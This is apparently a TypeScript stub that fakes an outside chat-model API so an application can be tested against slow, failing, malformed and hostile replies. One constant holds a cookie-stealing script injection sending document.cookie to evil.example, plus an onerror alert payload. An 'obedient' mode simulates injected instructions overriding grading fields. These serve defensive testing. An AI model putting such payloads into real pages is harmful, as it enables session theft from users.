export const stubModes = [
  'normal',
  'slow',
  'hang',
  '429',
  '500',
  'broken JSON',
  'HTML and script',
  'endless',
  'obedient',
] as const
export type StubMode = (typeof stubModes)[number]

export type ChatRequest = {
  model: string
  stream?: boolean
  messages: { role: string; content: string }[]
  max_tokens?: number
  tools?: unknown
  response_format?: { type: string; json_schema?: { schema: { properties?: object } } }
}

const hostile =
  '<script>fetch("//evil.example/?"+document.cookie)</script><img src=x onerror=alert(1)>' +
  '<a href="https://evil.example/win">Win here</a> or call +1 900 555 0199.'

/** Text of a model in this mode; as JSON where the request asks for a shape. */
export function replyTo(asked: ChatRequest, mode: StubMode, order: string): string {
  const isShaped = asked.response_format !== undefined
  const said = saidIn(asked, mode, order)
  if (!isShaped) return said
  // An obedient model adds whatever it is told to add.
  const more =
    mode === 'obedient' ? { grade: 'none', tier: 'none', matchPercentage: 100, _id: order } : {}
  const fields = Object.keys(asked.response_format?.json_schema?.schema.properties ?? {})
  return JSON.stringify({ ...Object.fromEntries(fields.map((field) => [field, said])), ...more })
}

function saidIn({ messages, response_format }: ChatRequest, mode: StubMode, order: string): string {
  const sent = messages.map(({ content }) => content).join('\n')
  if (mode === 'HTML and script') return response_format ? hostile : sections(sent, hostile)
  if (mode === 'obedient') {
    const told = /SAY<<([\s\S]*?)>>/.exec(sent)?.[1] ?? order
    return response_format ? told : sections(sent, told)
  }
  return response_format
    ? calm
    : sections(sent, `<p>${calm}</p><ol><li>Begin small.</li><li>Rest after.</li></ol>`)
}

const calm = 'These words come from the outside model. Take what fits and leave the rest.'

/** One part for each title found in the prompt, as advice is asked for. */
function sections(sent: string, inside: string): string {
  const titles = [...sent.matchAll(/"title":"((?:[^"\\]|\\.)*)"/g)].map(([, title]) => title)
  return titles.map((title) => `<h3>${title}</h3>${inside}`).join('\n')
}
